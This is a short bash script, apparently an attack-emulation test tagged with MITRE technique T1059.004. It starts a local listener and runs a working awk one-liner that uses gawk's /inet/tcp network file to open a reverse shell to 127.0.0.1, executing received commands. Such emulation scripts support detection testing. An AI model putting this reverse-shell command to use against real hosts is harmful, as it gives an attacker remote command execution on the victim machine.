#!/usr/bin/env bash
# attack: T1059.004 awk reverse shell through gawk's /inet/tcp network file (mawk just fails to open it)
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
timeout 10 awk "BEGIN { s = \"/inet/tcp/0/127.0.0.1/$p\"; while ((s |& getline c) > 0) { while ((c | getline) > 0) print |& s; close(c) } }" >/dev/null 2>&1
true
